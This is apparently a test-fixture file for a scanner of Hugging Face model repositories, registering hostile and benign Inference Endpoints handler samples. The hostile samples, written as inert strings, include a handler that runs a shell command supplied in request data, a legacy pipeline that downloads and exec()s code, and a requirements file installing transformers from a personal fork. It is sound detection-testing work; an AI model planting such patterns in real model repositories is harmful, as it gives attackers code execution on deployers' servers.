"""Inference Endpoints surfaces (app/core/loaders/map/endpoints.yaml). Inert text only.

huggingface-inference-toolkit 0.5.5 (``utils.check_and_register_custom_pipeline_from_directory``)
imports the repo's ``handler.py`` (else a legacy ``pipeline.py``) with the model folder first on
``sys.path``, builds ``EndpointHandler(model_dir)`` on deploy and calls it for every request; no
opt-in. ``scripts/entrypoint.sh`` first runs ``pip install -r requirements.txt`` from the repo.
"""

from __future__ import annotations

import json

from tests.corpus.registry import Case, register_all

FAMILY = "loader-endpoints"
PAYLOAD = "echo hfvet-test"


def handler_call_spawns() -> dict[str, bytes]:
    handler = ("import subprocess\nfrom transformers import pipeline\n\n\nclass EndpointHandler:\n"
               "    def __init__(self, path=\"\"):\n        self.pipe = pipeline(\"text-generation\", model=path)\n\n"
               "    def __call__(self, data):\n        self._warm(data)\n        return self.pipe(data[\"inputs\"])\n\n"
               "    def _warm(self, data):\n        subprocess.run([\"sh\", \"-c\", data.get(\"hook\", "
               + repr(PAYLOAD) + ")])\n")
    return {"handler.py": handler.encode(), "config.json": json.dumps({"model_type": "gpt2"}).encode()}


def legacy_pipeline_call_fetches() -> dict[str, bytes]:
    pipeline = ("import urllib.request\n\n\nclass PreTrainedPipeline:\n    def __init__(self, path=\"\"):\n"
                "        self.path = path\n\n    def __call__(self, inputs):\n"
                "        code = urllib.request.urlopen(\"http://127.0.0.1:9/x\").read()\n"
                "        exec(code)\n        return []\n")
    return {"pipeline.py": pipeline.encode()}


def vendor_handler_pipeline() -> dict[str, bytes]:
    handler = ("from typing import Any\n\nfrom transformers import pipeline\n\n\nclass EndpointHandler:\n"
               "    def __init__(self, path: str = \"\") -> None:\n"
               "        self.pipe = pipeline(\"text-classification\", model=path, device_map=\"auto\")\n\n"
               "    def __call__(self, data: dict[str, Any]) -> list[dict[str, Any]]:\n"
               "        inputs = data.pop(\"inputs\", data)\n        parameters = data.pop(\"parameters\", {})\n"
               "        return self.pipe(inputs, **parameters)\n")
    return {"handler.py": handler.encode(), "requirements.txt": b"transformers>=4.45\naccelerate\n",
            "config.json": json.dumps({"model_type": "bert"}).encode()}


def vendor_legacy_pipeline() -> dict[str, bytes]:
    pipeline = ("from transformers import pipeline\n\n\nclass PreTrainedPipeline:\n"
                "    def __init__(self, path=\"\"):\n        self.pipe = pipeline(\"fill-mask\", model=path)\n\n"
                "    def __call__(self, inputs):\n        return self.pipe(inputs)\n")
    return {"pipeline.py": pipeline.encode(), "config.json": json.dumps({"model_type": "bert"}).encode()}


def requirements_fork() -> dict[str, bytes]:
    handler = ("from transformers import pipeline\n\n\nclass EndpointHandler:\n"
               "    def __init__(self, path=\"\"):\n        self.pipe = pipeline(\"text-generation\", model=path)\n\n"
               "    def __call__(self, data):\n        return self.pipe(data[\"inputs\"])\n")
    return {"handler.py": handler.encode(),
            "requirements.txt": b"git+https://github.com/quant-helper/transformers@patched\naccelerate\n"}


register_all([
    Case(FAMILY, "handler-call-spawns", "hostile", handler_call_spawns, rule="remote-code-dangerous",
         why="EndpointHandler.__call__ runs on every request of the deploy; it spawns a shell (via a helper method)"),
    Case(FAMILY, "legacy-pipeline-call-fetches", "hostile", legacy_pipeline_call_fetches,
         rule="remote-code-dangerous",
         why="without handler.py the toolkit imports pipeline.py and calls PreTrainedPipeline: it execs a download"),
    Case(FAMILY, "requirements-fork", "hostile", requirements_fork, rule="runtime-install",
         why="entrypoint.sh pip-installs requirements.txt before start: transformers from a personal fork"),
    Case(FAMILY, "vendor-legacy-pipeline", "benign", vendor_legacy_pipeline, vendor="review",
         reason="remote-code-auto-map", why="the legacy pipeline.py shape: a fill-mask pipeline, nothing else"),
    Case(FAMILY, "vendor-handler-pipeline", "benign", vendor_handler_pipeline, vendor="review",
         reason="remote-code-auto-map",
         why="the documented custom-handler shape: a pipeline built in __init__, called in __call__; "
             "code a deploy runs is reviewed like auto_map code"),
])
